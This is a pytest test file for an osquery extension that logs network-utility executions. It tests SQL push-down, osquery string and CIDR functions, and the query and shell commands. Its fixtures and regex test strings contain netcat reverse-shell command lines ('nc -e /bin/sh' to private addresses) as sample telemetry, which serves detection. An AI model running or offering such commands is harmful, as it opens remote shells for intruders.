"""The embedded host: osquery's constraint push-down, osquery's SQL functions with
osquery's semantics, and `query` / `shell` as a user runs them."""

from __future__ import annotations

import json
import subprocess
import sys
import time
from pathlib import Path
from typing import Any, Iterator

import pytest

from osquery_netutil.app.cli import main
from osquery_netutil.host.database import Host
from osquery_netutil.host.errors import QueryError
from osquery_netutil.schema import EXECS
from osquery_netutil.store.store import Store
from osquery_netutil.tables.plugins import ExecsTable, StatusTable

from testkit.rows import make_row


class SpyTable(ExecsTable):
    """The real ExecsTable, remembering the contexts osquery-style push-down hands it."""

    def __init__(self, store: Store) -> None:
        super().__init__(lambda: store)
        self.contexts: list[dict[str, Any]] = []

    def generate(self, context: dict[str, Any]) -> list[dict[str, str]]:
        self.contexts.append(context)
        return super().generate(context)

    def pushed(self) -> list[list[tuple[str, int, str]]]:
        return [[(c["name"], i["op"], i["expr"]) for c in ctx["constraints"] for i in c["list"]] for ctx in self.contexts]


@pytest.fixture
def store(tmp_path: Path) -> Iterator[Store]:
    tmp_path.chmod(0o700)
    with Store(tmp_path / "events.db") as s:
        now = int(time.time())
        s.add_many(make_row(pid=p, time=now - 100 + p, utility="netcat" if p % 2 else "curl",
                            cmdline=f"nc -e /bin/sh 10.0.0.{p}" if p % 2 else f"curl http://h/{p}",
                            ip_args=f"10.0.0.{p}") for p in range(1, 21))
        s.flush()
        yield s


def test_constraints_reach_the_table_as_osquery_sends_them(store: Store) -> None:
    spy = SpyTable(store)
    host = Host([spy])
    columns, rows = host.query("SELECT pid FROM network_utility_execs WHERE pid >= 5 AND pid < 9 AND utility = 'netcat'"
                               " AND cmdline LIKE 'nc%' AND cmdline > 'a'")
    assert columns == ["pid"] and rows == [(5,), (7,)]
    (pushed,) = spy.pushed()
    assert sorted(pushed) == [("cmdline", 65, "nc%"), ("pid", 16, "9"), ("pid", 32, "5"), ("utility", 2, "netcat")]
    # Every column is listed, as osquery's xFilter does.
    assert [c["name"] for c in spy.contexts[0]["constraints"]] == list(EXECS.names)
    spy.contexts.clear()
    assert host.query("SELECT pid FROM network_utility_execs WHERE pid IN (3, 4, 99)")[1] == [(3,), (4,)]
    assert spy.pushed() == [[("pid", 2, "3")], [("pid", 2, "4")], [("pid", 2, "99")]]   # one generate per value


def test_values_keep_osquery_types_and_bad_constraints_return_nothing(store: Store) -> None:
    host = Host([ExecsTable(lambda: store)])
    (row,) = host.query("SELECT pid, time, utility, args_truncated FROM network_utility_execs WHERE pid = 2")[1]
    assert isinstance(row[0], int) and isinstance(row[1], int) and row[2] == "curl" and row[3] == 0
    assert host.query("SELECT * FROM network_utility_execs WHERE pid = 'abc'")[1] == []
    first = min(r["time"] for r in store.select())
    assert host.query(f"SELECT count(*) FROM network_utility_execs WHERE time > {first + 9}")[1] == [(10,)]
    with pytest.raises(QueryError, match="no such column: nope"):
        host.query("SELECT nope FROM network_utility_execs")
    with pytest.raises(QueryError, match="syntax error"):
        host.query("SELEC 1")


def test_a_snapshot_reads_the_rows_once_for_every_query_in_it(store: Store) -> None:
    spy = SpyTable(store)
    host = Host([spy])
    count = "SELECT count(*), sum(pid), typeof(pid), typeof(cmdline) FROM network_utility_execs WHERE pid > ? AND pid <= ?"
    expected = host.query(count, (4, 9))[1]
    spy.contexts.clear()
    with host.snapshot("network_utility_execs", "pid > :after AND pid <= :upto", {"after": 4, "upto": 9}):
        assert host.query(count, (4, 9))[1] == expected == [(5, 35, "integer", "text")]
        assert host.query("SELECT min(pid), max(pid) FROM network_utility_execs")[1] == [(5, 9)]   # only those rows
        assert host.query("SELECT count(*) FROM network_utility_execs WHERE cmdline LIKE 'nc%'")[1] == [(3,)]
    assert len(spy.contexts) == 1   # one generate, through the plugin, for the three queries
    assert host.query("SELECT count(*) FROM network_utility_execs")[1] == [(20,)]   # the table again
    with pytest.raises(QueryError, match="no such column: nope"):
        with host.snapshot("network_utility_execs", "nope > 1", {}):
            pass
    assert host.query("SELECT count(*) FROM network_utility_execs")[1] == [(20,)]   # nothing left behind


FUNCTION_CASES = [
    # osquery's documented examples and tests (osquery/sql/sqlite_string.cpp, tests/sqlite_network_tests.cpp)
    ("split('192.168.0.1', '.', 1)", "168"),
    ("split('192.168.0.1', '.0', 0)", "192"),
    ("split('a, b,,c', ',', 2)", "c"),         # empties dropped, then trimmed
    ("split('a,b', ',', 5)", None),
    ("split('a,b', ',', -1)", None),
    ("regex_split('192.168.0.1', '\\.', 1)", "168"),
    ("regex_split('192.168.0.1', '\\.0', 0)", "192.168"),
    ("regex_split('a,,b,', ',', 1)", ""),      # empty tokens kept inside ...
    ("regex_split('a,,b,', ',', 3)", None),    # ... but no trailing empty token
    ("regex_split('', ',', 0)", ""),           # no match: the whole value, even empty (libc++)
    ("regex_split('', ',', 1)", None),
    ("regex_split('abc', ',', 0)", "abc"),
    ("regex_split(',', ',', 0)", ""),
    ("regex_split(',', ',', 1)", None),
    ("regex_match('nc -e /bin/sh 1.2.3.4 80', '-e ([^ ]+)', 1)", "/bin/sh"),
    ("regex_match('nc -e /bin/sh', '-e ([^ ]+)', 0)", "-e /bin/sh"),
    ("regex_match('nc -l', '-e ([^ ]+)', 1)", None),
    ("regex_match('abc', 'b', 3)", None),
    ("regex_match(NULL, 'b', 0)", None),
    ("concat('a', NULL, 1, 'b')", "a1b"),
    ("concat_ws('-', 'a', NULL, 'b')", "a-b"),
    ("concat_ws(' > ', '/bin/bash', '/tmp/x.sh', '/usr/bin/nc')", "/bin/bash > /tmp/x.sh > /usr/bin/nc"),
    ("concat_ws('-', 'a', 'b', NULL)", "a-b-"),  # osquery appends the separator before a trailing NULL
    ("inet_aton('10.0.0.1')", 167772161),
    ("inet_aton('127.1')", None),
    ("inet_aton('::1')", None),
    ("in_cidr_block('10.0.0.0/26', '10.0.0.24')", 1),
    ("in_cidr_block('198.51.100.14/24', '198.51.100.14')", 1),
    ("in_cidr_block('2a00:a040:019e:f12a:0000:0000:0000:0000/64', '2a00:a040:19e:f12a:658b:3589:b2ba:71a3')", 1),
    ("in_cidr_block('2001:db8::/48', '2001:db8:0:ffff:ffff:ffff:ffff:ffff')", 1),
    ("in_cidr_block('10.0.0.0/24', '10.0.0.0')", 0),      # boost's hosts(): not the network address
    ("in_cidr_block('10.0.0.0/24', '10.0.0.255')", 0),    # nor the broadcast address
    ("in_cidr_block('10.0.0.7/32', '10.0.0.7')", 1),
    ("in_cidr_block('10.0.0.0/8', '11.0.0.1')", 0),
]


@pytest.mark.parametrize(("expression", "expected"), FUNCTION_CASES, ids=[c[0] for c in FUNCTION_CASES])
def test_osquery_functions(expression: str, expected: object) -> None:
    assert Host([]).query(f"SELECT {expression}")[1] == [(expected,)]


@pytest.mark.parametrize(
    ("expression", "message"),
    [("regex_match('a', '(', 0)", "Invalid regex"), ("regex_match('a', '" + "a" * 300 + "', 0)", "too big"),
     ("split('a', '', 0)", "Invalid input to split function"), ("in_cidr_block('10.0.0.0/8', 'x')", "IP address cannot be parsed"),
     ("in_cidr_block('::/0', '10.0.0.1')", "CIDR for IP address v4 cannot be parsed"), ("in_cidr_block(1, '10.0.0.1')", "CIDR must be a string"),
     ("in_cidr_block('10.0.0.0/255.0.0.0', '10.0.0.1')", "CIDR for IP address v4 cannot be parsed"),   # boost: no netmask
     ("in_cidr_block('10.0.0.0/', '10.0.0.1')", "CIDR for IP address v4 cannot be parsed"),
     ("in_cidr_block('10.0.0.0', '10.0.0.1')", "CIDR for IP address v4 cannot be parsed"),
     ("in_cidr_block('10.0.0.0/8', 1)", "^IP address must be a string$")],
)
def test_osquery_function_errors(expression: str, message: str) -> None:
    with pytest.raises(QueryError, match=message):
        Host([]).query(f"SELECT {expression}")


def test_packs_can_walk_the_ancestry_with_json_each(store: Store) -> None:
    store.add(make_row(pid=99, utility="netcat", ancestors=json.dumps([
        {"pid": 10, "path": "/tmp/x.sh", "cmdline": "/tmp/x.sh", "uid": 0},
        {"pid": 9, "path": "/usr/bin/bash", "cmdline": "bash", "uid": 0}])))
    store.flush()
    sql = ("SELECT e.pid, group_concat(json_extract(a.value, '$.path'), ' < ') FROM network_utility_execs e, "
           "json_each(e.ancestors) a WHERE e.pid = 99 GROUP BY e.pid")
    assert Host([ExecsTable(lambda: store)]).query(sql)[1] == [(99, "/tmp/x.sh < /usr/bin/bash")]


def test_query_command_modes_and_errors(store: Store, capsys: pytest.CaptureFixture[str]) -> None:
    base = ["query", "--store", str(store.path)]
    assert main([*base, "SELECT pid, utility FROM network_utility_execs WHERE pid < 3"]) == 0
    out = capsys.readouterr().out
    assert out.splitlines() == ["+-----+---------+", "| pid | utility |", "+-----+---------+",
                                "| 1   | netcat  |", "| 2   | curl    |", "+-----+---------+"]
    assert main([*base, "--json", "SELECT pid FROM network_utility_execs WHERE pid = 1"]) == 0
    assert json.loads(capsys.readouterr().out) == [{"pid": "1"}]
    assert main([*base, "--csv", "SELECT pid, cmdline FROM network_utility_execs WHERE pid = 1"]) == 0
    assert capsys.readouterr().out == "pid,cmdline\n1,nc -e /bin/sh 10.0.0.1\n"
    assert main([*base, "SELECT * FROM no_such_table"]) == 1
    assert "Error: no such table: no_such_table" in capsys.readouterr().err
    # This store's writer is this test process: it counts as running.
    assert main([*base, "--line", "SELECT state, source, rows_retained FROM network_utility_probe_status"]) == 0
    assert "rows_retained = 20" in capsys.readouterr().out


def test_query_says_when_nothing_collects(store: Store, capsys: pytest.CaptureFixture[str]) -> None:
    path = store.path
    store.close()
    assert main(["query", "--store", str(path), "SELECT count(*) AS n FROM network_utility_execs"]) == 0
    captured = capsys.readouterr()
    assert "| 20 |" in captured.out and "no osquery-netutil is collecting" in captured.err
    assert main(["query", "--store", str(path), "--json", "SELECT state, error FROM network_utility_probe_status"]) == 0
    (status,) = json.loads(capsys.readouterr().out)
    assert status["state"] == "failed" and "start the extension" in status["error"]
    assert main(["query", "--store", str(path.parent / "none.db"), "SELECT count(*) FROM network_utility_execs"]) == 0
    assert "no store here yet" in capsys.readouterr().err


def test_shell_reads_statements_and_dot_commands(store: Store) -> None:
    script = (".tables\nSELECT count(*) AS n\n  FROM network_utility_execs;\n.mode csv\nSELECT 1 AS one;\nSELEC;\n"
              ".schema network_utility_probe_status\n.quit\n")
    run = subprocess.run([sys.executable, "-m", "osquery_netutil", "shell", "--store", str(store.path)],
                         input=script, capture_output=True, text=True, timeout=30)
    assert run.returncode == 0, run.stderr
    assert "=> network_utility_execs" in run.stdout and "| 20 |" in run.stdout and "one\n1\n" in run.stdout
    assert "CREATE TABLE network_utility_probe_status(`state` TEXT" in run.stdout
    assert 'Error: near "SELEC": syntax error' in run.stderr


def test_query_prints_reals_as_osqueryi_does(store: Store, capsys: pytest.CaptureFixture[str]) -> None:
    """osqueryi prints sqlite3_column_text: SQLite's digits, not Python's."""
    assert main(["query", "--store", str(store.path), "--csv", "SELECT 1e20 AS a, 1.0 / 3 AS b, 0.1 AS c, 2.0 AS d"]) == 0
    assert capsys.readouterr().out == "a,b,c,d\n1.0e+20,0.333333333333333,0.1,2.0\n"


def test_status_table_is_one_row(store: Store) -> None:
    host = Host([StatusTable(lambda: {"state": "running", "events_lost": 0})])
    assert host.query("SELECT state, events_lost FROM network_utility_probe_status")[1] == [("running", 0)]
